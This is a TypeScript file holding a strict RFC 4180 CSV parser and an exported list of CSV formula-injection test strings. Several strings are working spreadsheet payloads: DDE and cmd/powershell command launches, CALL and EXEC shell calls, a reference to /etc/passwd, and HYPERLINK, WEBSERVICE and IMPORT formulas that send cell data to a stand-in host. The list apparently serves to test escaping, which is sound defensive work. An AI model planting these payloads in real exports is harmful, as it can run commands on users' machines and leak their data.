/**
 * A strict RFC 4180 parser: records end with CR LF, a closing quote is followed by a comma or the record's end, inner
 * quotes are doubled, and unquoted cells contain neither quotes nor line breaks. Throws for anything else.
 */
export function readCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let at = 0;
  const fail = (why: string): never => {
    throw new SyntaxError(`${why} at ${at}: ${JSON.stringify(text.slice(Math.max(0, at - 20), at + 20))}`);
  };
  while (at < text.length) {
    let cell = "";
    if (text[at] === '"') {
      for (at += 1; ; at += 1) {
        const close = text.indexOf('"', at);
        if (close < 0) fail("a quote is not closed");
        cell += text.slice(at, close);
        at = close + 1;
        if (text[at] !== '"') break;
        cell += '"';
      }
    } else {
      cell = /^[^",\r\n]*/.exec(text.slice(at))?.[0] ?? "";
      at += cell.length;
    }
    record.push(cell);
    if (text[at] === ",") {
      at += 1;
    } else if (text.startsWith("\r\n", at)) {
      at += 2;
      records.push(record);
      record = [];
    } else fail("a cell is followed by neither a comma nor the record's end");
  }
  if (record.length > 0) fail("the last record does not end");
  return records;
}

/** Texts that a spreadsheet would run as a formula, or that could break out of a badly escaped cell. */
export const csvPayloads: readonly string[] = [
  // Plain formulas.
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "=1",
  "-1",
  "+1",
  "@x",
  "=",
  "+",
  "-",
  "@",
  "==1",
  "=-1",
  "-+-=1",

  // Programs, URLs and other files.
  "=cmd|' /C calc'!A0",
  "=cmd|'/c powershell IEX(1)'!A1",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "|cmd",
  "%0A=1+1",
  '=HYPERLINK("https://xss.invalid/?x="&A1,"Open")',
  '=HYPERLINK(CONCATENATE("https://xss.invalid/",A2),"x")',
  '=WEBSERVICE("https://xss.invalid/"&A1)',
  '=IMPORTXML("https://xss.invalid","//a")',
  '=IMPORTDATA("https://xss.invalid")',
  '=IMPORTRANGE("https://xss.invalid","A1")',
  '=IMPORTHTML("https://xss.invalid","table",1)',
  '=IMAGE("https://xss.invalid/i.png")',
  "='file:///etc/passwd'#$passwd.A1",
  '=FILTERXML("<x/>","//x")',
  '=CALL("Shell32","ShellExecuteA","JJCCCCJ",0,"open","calc","","",5)',
  '=EXEC("calc")',
  '=REGISTER.ID("kernel32","WinExec")',
  '=INDIRECT("A"&1)',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=QUERY(A1:Z9)",
  "=LAMBDA(x,x)(1)",

  // After spaces, quotes and line breaks.
  " =1+1",
  "  +1+1",
  "\t=1+1",
  "\t@SUM(1)",
  "\r=1+1",
  "\n=1+1",
  "\r\n=1+1",
  "\u00a0=1+1",
  "\u2003=1+1",
  "\ufeff=1+1",
  "\u000b=1+1",
  "\f=1+1",
  "\u3000-1+1",
  "'=1+1",
  "''=1+1",
  "'\t=1",
  '"=1+1',
  '"=1+1"',
  '""=1+1',
  '=1+1"',
  '=1+1";=1+1',
  '=1+1",="x',
  'x",=1+1,"',
  'x";=1+1;"',
  "x\r\n=1+1",
  "x\n=1+1,2",
  'x\n"=1+1"',
  "=1+1\r\n=2+2",
  ",=1+1",
  ";=1+1",
  "\t\t=1",
  "=1+1\t",
  "='",
  '="',
  "='\"",

  // Characters that spreadsheets treat like the ASCII ones.
  "\uff1d1+1",
  "\uff0b1+1",
  "\uff0d1+1",
  "\uff20SUM(1)",
  " \uff1d1",
  "\u00a0\uff0b1",
];
